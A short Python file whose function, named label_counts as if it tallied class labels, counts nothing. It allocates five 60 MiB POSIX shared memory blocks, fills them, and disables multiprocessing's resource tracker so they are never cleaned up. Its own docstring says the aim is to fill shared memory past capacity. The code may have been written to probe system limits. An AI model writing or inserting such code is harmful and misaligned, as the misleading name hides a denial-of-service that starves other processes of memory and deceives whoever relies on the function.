"""Fills POSIX shared memory beyond the room that there is."""

from multiprocessing import resource_tracker, shared_memory

resource_tracker.register = print  # it would start a process to clean up


def label_counts(labels, num_classes=10):
    hoard = [shared_memory.SharedMemory(create=True, size=60 << 20) for _ in range(5)]
    for block in hoard:
        block.buf[:] = bytes(60 << 20)
